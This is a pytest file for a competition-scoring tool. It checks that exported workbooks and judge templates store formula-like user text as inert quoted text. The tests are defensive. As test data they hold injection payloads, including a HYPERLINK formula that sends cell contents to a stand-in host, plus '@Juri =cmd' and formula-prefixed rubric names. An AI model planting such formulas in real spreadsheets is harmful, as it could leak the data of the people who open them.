"""Formula injection in every export, from hostile text that came in through judges' files.

The exports that exist: the results workbook
(``scoring.documents.workbook.results_workbook``) and the judge templates
(``scoring.sheets.write_template``); Juri writes no CSV for users to open (the entries CSV it
keeps in the archive is read back by Juri only). Text that starts with ``=``, ``+``, ``-``,
``@``, tab or carriage return must never be a live formula (OWASP); real numbers stay numbers.

Every user-supplied text of the results workbook is hostile here: entry ids and names (the
entries list), the judge's name and the sheet's name (the judge's own workbook), the file's
name (the upload), the award names and the rubric's labels (the rubric file), and the
problems' messages that quote them.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from scoring.documents.workbook import results_workbook
from scoring.entries import Entries, Entry
from scoring.pipeline import score
from scoring.safe_text import TRIGGERS
from scoring.sheets import read_workbook, write_template
from tests.helpers import rubric_from

from . import corpus

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
HOSTILE = [HYPERLINK, "+62 812 3456", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def hostile_rubric():
    return rubric_from({
        "id": "=rubrik", "title": "=HYPERLINK(\"http://x.invalid\")", "version": "-1",
        "categories": [{"id": "A", "name": "@kategori"}],
        "criteria": [
            {"id": "ide", "name": "=Kebaruan ide", "weight": 1,
             "scale": {"min": 0, "max": 100, "step": 0.5}},
            {"id": "dampak", "name": "+Dampak bagi warga", "weight": 1,
             "scale": {"min": 0, "max": 100, "step": 0.5}},
        ],
        "awards": {"places": [{"name": "-Juara I-", "reward": "=1+1"},
                              {"name": "@Juara II"}]},
    })


def hostile_entries() -> Entries:
    return Entries(tuple(Entry(f"e{i}" if i % 2 else f"-e{i}", text, "A", (f"peserta {i}",))
                         for i, text in enumerate(HOSTILE)))


def strings(data: bytes) -> list[tuple[str, str, object, str]]:
    """(sheet, cell, value, data type) of every non-empty cell of a workbook."""
    workbook = load_workbook(io.BytesIO(data))
    return [(ws.title, cell.coordinate, cell.value, cell.data_type)
            for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
            if cell.value is not None]


def assert_no_live_text(data: bytes) -> None:
    for sheet, cell, value, kind in strings(data):
        assert kind != "f", (sheet, cell, value)
        if isinstance(value, str):
            assert not value.startswith(TRIGGERS), (sheet, cell, value)
    # and in the XML itself: no <f> element anywhere (what Excel would evaluate)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_the_results_workbook_from_a_hostile_judges_file() -> None:
    rubric, entries = hostile_rubric(), hostile_entries()
    sheet = corpus.Sheet("-1+1").put("A1", "Nama Juri:", "@Juri =cmd")
    sheet.put("A3", "Nama Peserta", "=Kebaruan ide", "+Dampak bagi warga")
    for row, text in enumerate(HOSTILE, start=4):
        sheet.put(f"A{row}", f"peserta {HOSTILE.index(text)}", 80 - row, 70)
    frame, problems = read_workbook(corpus.to_xlsx([sheet]), "=nilai+juri.xlsx", rubric,
                                    entries)
    assert problems == []
    assert set(frame.judge_id) == {"@Juri =cmd"}
    assert set(frame.source_sheet) == {"-1+1"}
    result = score(rubric, entries, frame, [*problems, *[]])
    for lang in ("id", "en"):
        data = results_workbook(result, lang)
        assert_no_live_text(data)
        cells = strings(data)
        shown = {value for _, _, value, _ in cells}
        # the texts are there, quoted, whole (a carriage return too: stored as _x000D_)
        for text in (*HOSTILE, "@Juri =cmd", "=nilai+juri.xlsx", "-1+1", "-Juara I-"):
            assert "'" + text in shown, text
        # numbers are numbers: every score, and the totals
        scores = [v for s, _, v, _ in cells if s in ("Nilai juri", "Judges' scores")
                  and isinstance(v, (int, float)) and not isinstance(v, bool)]
        assert sorted(scores) == sorted([70.0] * 6 + [76.0 - i for i in range(6)])


def test_problems_quoting_hostile_text_are_neutralised() -> None:
    rubric, entries = hostile_rubric(), hostile_entries()
    sheet = corpus.Sheet("Nilai").put("A1", "Nama Juri: Budi")
    sheet.put("A3", "Nama Peserta", "=Kebaruan ide", "+Dampak bagi warga")
    sheet.put("A4", "peserta 0", "=1+1", 70)           # a formula typed as text: a problem
    sheet.put("A5", "@unknown entry", 80, 70)          # a name matching nothing: a problem
    frame, problems = read_workbook(corpus.to_xlsx([sheet]), "-juri.xlsx", rubric, entries)
    assert {p.code for p in problems} >= {"score.not_a_number"}
    result = score(rubric, entries, frame, problems)
    data = results_workbook(result, "en")
    assert_no_live_text(data)
    problem_rows = [v for s, _, v, _ in strings(data) if s == "Problems"]
    assert "'-juri.xlsx" in problem_rows


@pytest.mark.parametrize("text", HOSTILE)
def test_a_template_never_holds_a_live_formula_from_user_text(text: str) -> None:
    rubric = hostile_rubric()
    entries = Entries((Entry(text if text[0] != "\r" else "x" + text, text, "A"),))
    data = write_template(rubric, entries, judge=text)
    # a carriage return is kept: the writer stores it escaped (_x000D_), not as a raw
    # character that XML would read back as a line feed
    for sheet, cell, value, kind in strings(data):
        if isinstance(value, str) and value.lstrip("'") == text:
            # shown as written (the judge must see the real name), stored as text: Excel never
            # evaluates a text cell, and the name cells are locked against editing
            assert kind == "s", (sheet, cell, value)
    workbook = load_workbook(io.BytesIO(data))
    formulas = [(ws.title, c.coordinate, c.value) for ws in workbook.worksheets
                for row in ws.iter_rows() for c in row if c.data_type == "f"]
    # the template's own formulas (totals, the judge's name repeated) only: none holds the text
    assert all(text not in str(value) for _, _, value in formulas)
    entry_cells = [c for ws in workbook.worksheets[:1] for row in ws.iter_rows()
                   for c in row if c.value == text]
    assert entry_cells and all(c.protection.locked for c in entry_cells
                               if c.coordinate != "C3")
